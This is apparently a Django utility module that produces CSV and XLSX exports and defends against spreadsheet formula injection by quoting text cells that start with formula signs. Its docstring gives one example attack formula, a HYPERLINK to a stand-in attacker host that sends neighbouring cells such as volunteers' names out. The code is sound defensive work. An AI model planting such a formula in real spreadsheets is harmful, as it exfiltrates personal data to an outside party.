"""Spreadsheet cells that cannot run: the one place CSV and XLSX files are written and read.

Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` as a formula (tab and carriage return can hide the sign from a reader but not from
the spreadsheet), and a formula such as `=HYPERLINK("http://evil.example/?"&B2,"x")` carries the
cells next to it (volunteers' names) to whoever wrote it, a mission title being enough. Every
**text** cell that starts with one of those characters is written with a single quote in front,
which spreadsheets show as text and never evaluate. Numbers are left alone: a balance of -3 is a
number cell, not text, and must stay one (sums and charts read it).

Every exporter writes through `csv_response` / `xlsx_response` (or `safe_cell` for a writer of
its own), and the importer reads free text through `neutralise_text`. Tested in
core/tests/test_spreadsheets.py.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# OWASP's list: formula signs, and the tab and carriage return that can precede them.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def neutralise_text(text: str) -> str:
    """`=SUM(A1)` -> `'=SUM(A1)`; any other text unchanged (so neutralising twice is harmless:
    the quoted text starts with a quote)."""
    return QUOTE + text if is_formula_like(text) else text


def safe_cell(value: Any) -> Any:
    """A value as a cell: numbers stay numbers (Decimals too: volunteer-months are Decimals),
    booleans read yes/no, and everything else is text, neutralised."""
    if value is None:
        return None
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise_text(str(value))


def csv_response(filename: str, headings: Sequence[Any], rows: Iterable[Sequence[Any]]
                 ) -> HttpResponse:
    """UTF-8 with a byte-order mark, so that spreadsheets open accented names correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(str(h)) for h in headings])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    response = HttpResponse("\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(filename: str, sheets: Sequence[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]
                  ) -> HttpResponse:
    """One sheet per (title, headings, rows). Text cells are written as text, never formulas:
    openpyxl would otherwise store a string starting with `=` as a formula."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, headings, rows in sheets:
        # A sheet's title shows in the tab, not in cells; openpyxl refuses the risky characters.
        sheet = workbook.create_sheet(title=str(title)[:31])
        sheet.append([safe_cell(str(h)) for h in headings])
        for row in rows:
            sheet.append([safe_cell(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


EXPORT_FORMATS = ("csv", "xlsx")


def export_format(value: str | None) -> str:
    """The export asked for by a list page's `?format=` ("" when the page itself is wanted)."""
    return value if value in EXPORT_FORMATS else ""


def table_response(fmt: str, filename: str, title: Any, headings: Sequence[Any],
                   rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """One list as a CSV file or a one-sheet workbook (`fmt` from `export_format`)."""
    if fmt == "xlsx":
        return xlsx_response(filename, [(str(title), headings, rows)])
    return csv_response(filename, headings, rows)
